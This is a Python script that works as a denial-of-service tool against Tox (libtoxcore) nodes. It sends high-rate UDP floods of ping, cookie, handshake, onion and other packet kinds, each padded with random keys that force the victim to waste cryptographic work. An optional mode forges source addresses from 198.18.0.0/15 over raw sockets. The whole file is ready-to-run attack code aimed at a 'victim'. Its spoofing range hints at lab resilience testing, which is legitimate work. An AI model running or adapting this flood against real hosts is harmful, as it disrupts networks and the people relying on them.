"""Somebody who knows the victim's address and nothing else: `stranger ADDRESS PORT KIND SECONDS [spoofed]`.

KIND is the first byte of the datagrams, in hex. Each has another key, so that libtoxcore computes with it
before it finds that nothing fits. `spoofed`: each comes from another address of 198.18.0.0/15. Prints a line
when it begins, and then how many it sent.
"""

import os
import random
import socket
import struct
import sys
import time

SIZES = {0x00: 82, 0x02: 113, 0x18: 145, 0x1A: 385, 0x1B: 200, 0x80: 300, 0x83: 354}
"""Of a ping, a request for nodes, for a cookie, a handshake, data, an onion packet, an announcement."""
UDP_SEGMENT = 103
TOGETHER = 20
MESSAGES = 50
PER_S = 100_000
"""As much as five processors of the victim could work off, if it worked them off."""


def plain(address: str, port: int, kind: int, seconds: float) -> int:
    size = SIZES[kind]
    messages = [
        b"".join(bytes([kind]) + os.urandom(size - 1) for _ in range(TOGETHER)) for _ in range(MESSAGES)
    ]
    print(flush=True)
    sent, end_s = 0, time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, size)
        sender.connect((address, port))
        while (now_s := time.monotonic()) < end_s:
            if sent > (now_s - end_s + seconds) * PER_S:
                time.sleep(0.001)
                continue
            sender.send(messages[sent // TOGETHER % MESSAGES])
            sent += TOGETHER
    return sent


def spoofed(address: str, port: int, kind: int, seconds: float) -> int:
    size = SIZES[kind]
    header = struct.pack("!HHHH", 33445, port, 8 + size, 0)
    packets = []
    for _ in range(MESSAGES * TOGETHER):
        source = bytes([198, 18 + random.getrandbits(1), random.getrandbits(8), random.getrandbits(8)])
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, source, socket.inet_aton(address))
        packets.append(ip + header + bytes([kind]) + os.urandom(size - 1))
    print(flush=True)
    sent, end_s = 0, time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        while time.monotonic() < end_s:
            for packet in packets:
                sender.sendto(packet, (address, 0))
            sent += len(packets)
    return sent


def main() -> None:
    address, port, kind, seconds, *how = sys.argv[1:]
    flood = spoofed if how else plain
    print(flood(address, int(port), int(kind, 16), float(seconds)))


if __name__ == "__main__":
    main()
